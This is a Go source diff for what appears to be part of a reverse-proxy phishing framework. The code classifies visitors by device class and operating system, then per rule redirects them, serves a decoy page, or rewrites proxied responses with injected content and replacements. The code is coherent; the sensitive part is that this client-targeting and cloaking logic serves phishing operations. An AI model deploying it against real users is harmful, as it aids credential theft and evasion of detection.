@@ -0,0 +1,200 @@
+package proxy
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"regexp"
+	"strings"
+
+	"github.com/muraenateam/muraena/log"
+	"github.com/muraenateam/muraena/session"
+)
+
+// clientPlatforms are the operating systems of the Sec-CH-UA-Platform client hint
+var clientPlatforms = map[string]string{
+	"android":     "android",
+	"ios":         "ios",
+	"windows":     "windows",
+	"macos":       "macos",
+	"linux":       "linux",
+	"chrome os":   "chromeos",
+	"chromium os": "chromeos",
+}
+
+// classifyClient returns the class (mobile, tablet or desktop) and the operating system of the client of the
+// request, from its client hints when sent, from its User-Agent otherwise. The OS is empty if unknown.
+func classifyClient(r *http.Request) (class, os string) {
+	ua := r.Header.Get("User-Agent")
+
+	switch {
+	case strings.Contains(ua, "iPhone"), strings.Contains(ua, "iPad"), strings.Contains(ua, "iPod"):
+		os = "ios"
+	case strings.Contains(ua, "Android"):
+		os = "android"
+	case strings.Contains(ua, "CrOS"):
+		os = "chromeos"
+	case strings.Contains(ua, "Windows"):
+		os = "windows"
+	case strings.Contains(ua, "Macintosh"), strings.Contains(ua, "Mac OS X"):
+		os = "macos"
+	case strings.Contains(ua, "Linux"), strings.Contains(ua, "X11"):
+		os = "linux"
+	}
+	if platform := strings.Trim(r.Header.Get("Sec-CH-UA-Platform"), `" `); platform != "" {
+		if p, ok := clientPlatforms[strings.ToLower(platform)]; ok {
+			os = p
+		}
+	}
+
+	switch {
+	case r.Header.Get("Sec-CH-UA-Mobile") == "?1":
+		class = "mobile"
+	case strings.Contains(ua, "iPad"), strings.Contains(ua, "Tablet"),
+		os == "android" && !strings.Contains(ua, "Mobile"):
+		class = "tablet"
+	case strings.Contains(ua, "Mobi"), strings.Contains(ua, "iPhone"), strings.Contains(ua, "iPod"),
+		strings.Contains(ua, "Windows Phone"):
+		class = "mobile"
+	default:
+		class = "desktop"
+	}
+
+	return class, os
+}
+
+// clientRule serves the clients of a class in a different way: redirected, served the decoy, or served responses
+// transformed as the ones of a variant
+type clientRule struct {
+	name     string
+	class    string
+	os       map[string]bool
+	exact    map[string]bool
+	regexps  []*regexp.Regexp
+	action   string
+	redirect string
+	rewrite  *responseVariant
+}
+
+type clientRuleKey struct{}
+
+// clients are the rules of the client classes, nil if none
+var clients []*clientRule
+
+// newClientRules returns the rules of the client classes of the configuration, nil if none
+func newClientRules(sess *session.Session) ([]*clientRule, error) {
+	var rules []*clientRule
+	for _, c := range sess.Config.Clients {
+		rule := &clientRule{
+			name:     c.Name,
+			class:    c.Class,
+			os:       make(map[string]bool),
+			exact:    make(map[string]bool),
+			action:   c.Action,
+			redirect: c.Redirect,
+		}
+		if rule.action == "" {
+			rule.action = "rewrite"
+		}
+
+		for _, os := range c.OS {
+			rule.os[os] = true
+		}
+
+		for _, p := range c.Paths {
+			if strings.HasPrefix(p, "^") && strings.HasSuffix(p, "$") {
+				re, err := regexp.Compile(p)
+				if err != nil {
+					return nil, fmt.Errorf("invalid path %s of client rule %s: %w", p, c.Name, err)
+				}
+				rule.regexps = append(rule.regexps, re)
+				continue
+			}
+			rule.exact[p] = true
+		}
+
+		if rule.action == "rewrite" {
+			rule.rewrite = &responseVariant{inject: c.Inject}
+			if len(c.Replace) > 0 {
+				var pairs []string
+				for _, r := range c.Replace {
+					pairs = append(pairs, r...)
+				}
+				rule.rewrite.replacer = strings.NewReplacer(pairs...)
+			}
+		}
+
+		rules = append(rules, rule)
+	}
+
+	return rules, nil
+}
+
+// matches checks if the rule applies to a client of the class and the OS, requesting the path
+func (c *clientRule) matches(class, os, path string) bool {
+	if c.class != "" && c.class != class {
+		return false
+	}
+	if len(c.os) > 0 && !c.os[os] {
+		return false
+	}
+
+	if len(c.exact) == 0 && len(c.regexps) == 0 {
+		return true
+	}
+	if c.exact[path] {
+		return true
+	}
+	for _, re := range c.regexps {
+		if re.MatchString(path) {
+			return true
+		}
+	}
+
+	return false
+}
+
+// matchClientRule returns the first rule applying to the request, nil if none
+func matchClientRule(rules []*clientRule, r *http.Request) *clientRule {
+	if len(rules) == 0 {
+		return nil
+	}
+
+	class, os := classifyClient(r)
+	for _, rule := range rules {
+		if rule.matches(class, os, r.URL.Path) {
+			return rule
+		}
+	}
+	return nil
+}
+
+// serveClients answers the requests of the clients whose rule redirects them or serves them the decoy, returning
+// nil, and returns the request to proxy otherwise, carrying the rule rewriting its responses, if any
+func serveClients(w http.ResponseWriter, r *http.Request, decoy string) *http.Request {
+	rule := matchClientRule(clients, r)
+	if rule == nil {
+		return r
+	}
+
+	switch rule.action {
+	case "redirect":
+		log.Debug("[%s] Client rule %s redirecting %s %s", loggedIP(r), rule.name, r.Method, r.URL.Path)
+		http.Redirect(w, r, rule.redirect, http.StatusFound)
+		return nil
+	case "decoy":
+		serveDecoy(w, r, decoy)
+		return nil
+	}
+
+	return r.WithContext(context.WithValue(r.Context(), clientRuleKey{}, rule))
+}
+
+// clientRewriteOf returns the transformation of the responses of the client rule of the request, nil if none
+func clientRewriteOf(ctx context.Context) *responseVariant {
+	rule, _ := ctx.Value(clientRuleKey{}).(*clientRule)
+	if rule == nil {
+		return nil
+	}
+	return rule.rewrite
+}